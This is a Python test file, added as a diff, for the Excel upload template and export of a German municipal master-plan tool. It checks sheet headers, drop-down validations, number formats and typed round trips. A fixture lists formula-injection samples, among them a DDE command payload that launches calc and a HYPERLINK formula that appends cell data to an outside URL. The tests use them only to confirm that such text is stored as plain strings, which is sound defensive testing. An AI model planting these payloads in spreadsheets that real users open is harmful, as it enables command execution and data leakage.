@@ -1,0 +1,162 @@
+"""The template and the export: the upload format, drop-downs, and cell types that survive a round trip."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.utils import range_boundaries
+from python_calamine import CalamineWorkbook
+
+from loaders.schema import INFO_SHEET, LISTS_SHEET, SHEETS, Kind
+from loaders.vocabulary import BOOL_FALSE, BOOL_TRUE, CANONICAL
+from masterplan.tables import Plan
+from masterplan.workbook import TEMPLATE_ROWS, write_workbook
+
+FORMULA_LIKE = (
+    "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", '=HYPERLINK("http://x/?"&A1)', "\t=1+1", "\r=1+1", "#N/A",
+)
+SHEET_NAMES = [INFO_SHEET, *(s.name for s in SHEETS), LISTS_SHEET]
+
+
+def _plan() -> Plan:
+    """A small Stand full of values that break naive exports."""
+    measures = [
+        {"nr": "M01", "massnahme": "Gründerzentrum Süd", "lz_nr": "LZ1", "federfuehrung": "ST01",
+         "status": "in Umsetzung", "umsetzungsstand": 45.5, "beginn": dt.date(2024, 1, 15),
+         "ende": dt.date(2026, 12, 31), "gewicht": 2, "kosten": 1234.5, "sachstand": "\x0bx"},
+        {"nr": "M02", "massnahme": "Flächen", "lz_nr": "LZ1", "federfuehrung": "ST01", "umsetzungsstand": 100,
+         "sachstand": "Ausführlicher Bericht. " * 20},
+        *({"nr": f"M1{i}", "massnahme": text, "lz_nr": "LZ1", "federfuehrung": "ST01", "sachstand": text}
+          for i, text in enumerate(FORMULA_LIKE)),
+    ]
+    return Plan.from_records({
+        "Leitziele": [{"lz_nr": "LZ1", "leitziel": "Wirtschaft stärken – Äußeres Öl"}],
+        "Maßnahmen": measures,
+        "Stakeholder": [{"st_nr": "ST01", "name": "Wirtschaftsförderung", "typ": "Stadtverwaltung",
+                         "lenkungskreis": True}],
+        "Indikatoren": [{"ind_nr": "IND01", "indikator": "Beschäftigte", "lz_nr": "LZ1", "basisjahr": 2019}],
+        "Indikatorwerte": [{"ind_nr": "IND01", "stichtag": dt.date(2023, 12, 31), "wert": 81234}],
+    })
+
+
+@pytest.fixture(scope="module")
+def template() -> bytes:
+    return write_workbook()
+
+
+@pytest.fixture(scope="module")
+def export() -> bytes:
+    return write_workbook(_plan())
+
+
+def _rows(data: bytes, sheet: str) -> list[list]:
+    """A sheet as calamine, the importer's reader, sees it."""
+    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python()
+
+
+def test_template_has_every_sheet_with_schema_headers(template: bytes) -> None:
+    workbook = load_workbook(io.BytesIO(template))
+    assert workbook.sheetnames == SHEET_NAMES
+    assert CalamineWorkbook.from_filelike(io.BytesIO(template)).sheet_names == SHEET_NAMES
+    assert workbook.active.title == INFO_SHEET and workbook[INFO_SHEET].sheet_state == "visible"
+    for sheet in SHEETS:
+        headers = [c.header for c in sheet.columns]
+        ws = workbook[sheet.name]
+        assert [cell.value for cell in ws[1]] == headers
+        assert all(cell.font.bold for cell in ws[1])
+        assert ws.freeze_panes == "A2"
+        assert ws.auto_filter.ref.startswith("A1:")
+        assert _rows(template, sheet.name) == [headers]
+
+
+def test_lists_sheet_is_hidden_and_holds_every_vocabulary(template: bytes) -> None:
+    ws = load_workbook(io.BytesIO(template))[LISTS_SHEET]
+    assert ws.sheet_state == "hidden"
+    columns = [[value for value in column[1:] if value is not None] for column in ws.iter_cols(values_only=True)]
+    assert sorted(map(tuple, columns)) == sorted(CANONICAL.values())
+
+
+def test_every_choice_column_has_a_drop_down_on_the_lists_sheet(template: bytes) -> None:
+    workbook = load_workbook(io.BytesIO(template))
+    for sheet in SHEETS:
+        ws = workbook[sheet.name]
+        by_range = {str(v.sqref): v for v in ws.data_validations.dataValidation}
+        for index, column in enumerate(sheet.columns, start=1):
+            letter = ws.cell(1, index).column_letter
+            validation = by_range.get(f"{letter}2:{letter}{TEMPLATE_ROWS}")
+            assert (validation is not None) == (column.kind in (Kind.CHOICE, Kind.BOOL) or bool(column.hint))
+            if column.kind is Kind.CHOICE:
+                assert validation.type == "list" and LISTS_SHEET in validation.formula1
+                target, cells = validation.formula1.split("!")
+                min_col, min_row, _, max_row = range_boundaries(cells.replace("$", ""))
+                values = [workbook[target.strip("'")].cell(r, min_col).value for r in range(min_row, max_row + 1)]
+                assert tuple(values) == CANONICAL[column.vocabulary]
+            if column.kind is Kind.BOOL:
+                assert validation.type == "list" and BOOL_TRUE[0] in validation.formula1
+            if column.hint:
+                assert validation.showInputMessage and validation.prompt == column.hint[:255]
+
+
+def test_formula_like_text_is_written_as_text(export: bytes) -> None:
+    ws = load_workbook(io.BytesIO(export))["Maßnahmen"]
+    header = [cell.value for cell in ws[1]]
+    texts = {}
+    for row in ws.iter_rows(min_row=2):
+        for cell in (row[header.index("Maßnahme")], row[header.index("Sachstand")]):
+            if cell.value is not None:
+                texts[cell.value] = cell.data_type
+    for text in FORMULA_LIKE:
+        assert texts[text] == "s", text
+    assert texts["x"] == "s"  # the \x0b was stripped instead of failing the export
+
+
+def test_values_come_back_typed_through_calamine(export: bytes) -> None:
+    header, first, second, *_ = _rows(export, "Maßnahmen")
+    measure = dict(zip(header, first, strict=True))
+    assert measure["Maßnahme"] == "Gründerzentrum Süd"
+    assert measure["Umsetzungsstand"] == pytest.approx(0.455)
+    assert dict(zip(header, second, strict=True))["Umsetzungsstand"] == 1.0
+    assert measure["Beginn"] == dt.date(2024, 1, 15) and measure["Ende"] == dt.date(2026, 12, 31)
+    assert measure["Kosten"] == 1234.5 and measure["Gewicht"] == 2
+    assert measure["Status"] == "in Umsetzung" and measure["Ampel"] == ""
+    assert _rows(export, "Leitziele")[1][1] == "Wirtschaft stärken – Äußeres Öl"
+    assert _rows(export, "Stakeholder")[1][4] == BOOL_TRUE[0]
+    assert _rows(export, "Indikatoren")[1][6] == 2019
+    assert _rows(export, "Indikatorwerte")[1][:3] == ["IND01", dt.date(2023, 12, 31), 81234]
+
+
+def test_number_formats_show_percent_dates_and_euro(export: bytes) -> None:
+    ws = load_workbook(io.BytesIO(export))["Maßnahmen"]
+    header = [cell.value for cell in ws[1]]
+    first, second = ws[2], ws[3]
+    assert first[header.index("Umsetzungsstand")].number_format == "0.0%"
+    assert second[header.index("Umsetzungsstand")].number_format == "0%"
+    assert first[header.index("Beginn")].number_format == "DD.MM.YYYY"
+    assert first[header.index("Beginn")].is_date
+    assert "€" in first[header.index("Kosten")].number_format
+    assert second[header.index("Beginn")].value is None
+
+
+def test_bool_false_is_nein() -> None:
+    plan = Plan.from_records({"Stakeholder": [{"st_nr": "ST01", "name": "IHK", "lenkungskreis": False}]})
+    assert _rows(write_workbook(plan), "Stakeholder")[1][4] == BOOL_FALSE[0]
+
+
+def test_info_sheet_explains_every_column(template: bytes) -> None:
+    text = " ".join(str(value) for row in _rows(template, INFO_SHEET) for value in row)
+    for sheet in SHEETS:
+        assert sheet.name in text and sheet.description in text
+        for column in sheet.columns:
+            assert all(name in text for name in column.all_names), column.header
+    assert all(value in text for values in CANONICAL.values() for value in values)
+
+
+def test_long_text_wraps_in_a_bounded_column(export: bytes) -> None:
+    ws = load_workbook(io.BytesIO(export))["Maßnahmen"]
+    header = [cell.value for cell in ws[1]]
+    notes = ws.cell(3, header.index("Sachstand") + 1)
+    assert notes.alignment.wrap_text
+    assert 20 <= ws.column_dimensions[notes.column_letter].width <= 60
